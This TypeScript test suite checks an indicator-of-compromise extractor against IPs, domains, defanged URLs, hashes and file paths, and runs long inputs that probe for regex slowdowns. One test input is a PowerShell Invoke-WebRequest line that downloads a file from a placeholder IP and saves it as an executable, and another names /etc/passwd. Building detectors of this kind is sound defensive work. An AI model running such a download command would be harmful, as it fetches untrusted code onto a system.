import { findIndicators, type IocType } from '@casebook/analysis';

const ALL: readonly IocType[] = [
  'ipv4',
  'ipv6',
  'dns',
  'url',
  'email',
  'md5_hash',
  'sha1_hash',
  'sha256_hash',
  'windows_path',
  'linux_path',
];
const found = (text: string): string[] =>
  findIndicators(text, { types: ALL }).map(({ type, observable }) => `${type} ${observable}`);

it.each([
  [
    'Invoke-WebRequest -Uri "http://203.0.113.9:9088/static/x.min.js" -OutFile "c:\\p.exe"',
    ['url http://203.0.113.9:9088/static/x.min.js', 'ipv4 203.0.113.9', 'windows_path c:\\p.exe'],
  ],
  [
    "'http://a.example.com/x' (http://b.example.com/y_(z)).",
    [
      'url http://a.example.com/x',
      'dns a.example.com',
      'url http://b.example.com/y_(z)',
      'dns b.example.com',
    ],
  ],
  [
    'hxxps[:]//evil[.]example[.]com/p, 1[.]2[.]3[.]4, bob[at]corp(.)com',
    [
      'url https://evil.example.com/p',
      'dns evil.example.com',
      'ipv4 1.2.3.4',
      'email bob@corp.com',
      'dns corp.com',
    ],
  ],
  [
    'http://go.example.com/?u=http%3A%2F%2Fevil.org%2Fp',
    [
      'url http://go.example.com/?u=http%3A%2F%2Fevil.org%2Fp',
      'url http://evil.org/p',
      'dns evil.org',
      'dns go.example.com',
    ],
  ],
  ['999.1.1.1 1.2.3 1.2.3.4.5 256.1.1.1 01.2.3.4 10.0.0.255', ['ipv4 10.0.0.255']],
  [
    'fe80::1 ::1 10:20:30 aa:bb:cc:dd:ee:ff 2001:db8::ff00:42:8329',
    ['ipv6 fe80::1', 'ipv6 ::1', 'ipv6 2001:db8::ff00:42:8329'],
  ],
  ['svchost.exe run.dll setup.py backup.zip a/b.com \\c.com System.Net.WebClient corp.local', []],
  [
    'www.setup.py http://setup.py/ cmd.example.co.uk \\\\srv.example.com\\share',
    [
      'dns www.setup.py',
      'url http://setup.py/',
      'dns setup.py',
      'dns cmd.example.co.uk',
      'windows_path \\\\srv.example.com\\share',
      'dns srv.example.com',
    ],
  ],
  [
    'C:\\Program Files\\App\\run.exe /c x "C:\\W\\s.exe" -k',
    ['windows_path C:\\Program Files\\App\\run.exe', 'windows_path C:\\W\\s.exe'],
  ],
  ['/etc/passwd ./a/b /c ~/x/y and/or', ['linux_path /etc/passwd', 'linux_path ./a/b', 'linux_path ~/x/y']],
  [
    `${'a'.repeat(32)} x${'b'.repeat(40)} ${'c'.repeat(64)} ${'d'.repeat(33)}`,
    [`md5_hash ${'a'.repeat(32)}`, `sha1_hash ${'b'.repeat(40)}`, `sha256_hash ${'c'.repeat(64)}`],
  ],
  [
    'user@example.com ..x@example.com http://me@example.org/',
    ['email user@example.com', 'dns example.com', 'url http://me@example.org/', 'dns example.org'],
  ],
  ['пример.рф xn--80ak6aa92e.com', ['dns пример.рф', 'dns xn--80ak6aa92e.com']],
  ['1.1.1.1 1.1.1.1', ['ipv4 1.1.1.1']],
  ['EVIL.COM Evil.com bob@EVIL.COM', ['dns EVIL.COM', 'dns Evil.com', 'email bob@EVIL.COM']],
  [
    'System.Security System.IO Wscript.Shell notes.txt.zip CMD.EXE-4A81B364.pf http://Evil.Com/',
    ['url http://Evil.Com/', 'dns Evil.Com'],
  ],
  [
    "('http://a.example.com/x','http://b.example.com/y').z (http://c.example.com/w),(http://d.example.com/v_(u))",
    [
      'url http://a.example.com/x',
      'dns a.example.com',
      'url http://b.example.com/y',
      'dns b.example.com',
      'url http://c.example.com/w',
      'dns c.example.com',
      'url http://d.example.com/v_(u)',
      'dns d.example.com',
    ],
  ],
  ['&lt;a&gt;http://a.example.com/b&lt;/a&gt;', ['url http://a.example.com/b', 'dns a.example.com']],
  ['hxxps[://]a[.]example[.]com/b', ['url https://a.example.com/b', 'dns a.example.com']],
  [
    'C:\\x\\setup(1).exe (C:\\y\\z.exe).Length',
    ['windows_path C:\\x\\setup(1).exe', 'windows_path C:\\y\\z.exe'],
  ],
])('in %j', (text, expected) => {
  expect(found(text)).toEqual(expected);
});

it('says where each stands, and how it stood there', () => {
  expect(findIndicators('at 1[.]1[.]1[.]1!', { types: ['ipv4'] })).toEqual([
    { type: 'ipv4', observable: '1.1.1.1', matched: '1[.]1[.]1[.]1', position: 3 },
  ]);
});

it('looks for kinds of the caller too', () => {
  const customTypes = [{ name: 'ticket', pattern: /\bINC(?<ioc>\d{7})\b/ }];
  expect(findIndicators('see INC0012345, INC1', { types: [], customTypes })).toEqual([
    { type: 'ticket', observable: '0012345', matched: '0012345', position: 7 },
  ]);
});

describe('a megabyte of each attack string ends', () => {
  const attacks = [
    'a',
    'a.',
    '@',
    '/',
    '\\',
    'c:\\ ',
    '%41',
    'http://',
    ':',
    'f',
    'a@',
    '-.',
    '[.]',
    '1.',
    ' \\',
    '..\\a ',
    'www.',
    'a.a@',
    'hxxp',
    '.@',
    '%a%\\',
    '[at]',
    '\\\\a\\',
  ];
  it.each([...attacks, `c:\\${' \\'.repeat(22)}|`])('%j', (attack) => {
    const text = attack.repeat(Math.ceil(1_000_000 / attack.length));
    expect(findIndicators(text, { types: ALL }).length).toBeLessThan(3);
  });
  it('addresses that are all different', () => {
    const text = Array.from({ length: 20_000 }, (_, at) => `http://a${at}.example.com/`).join(' ');
    expect(findIndicators(text, { types: ALL })).toHaveLength(40_000);
  });
});
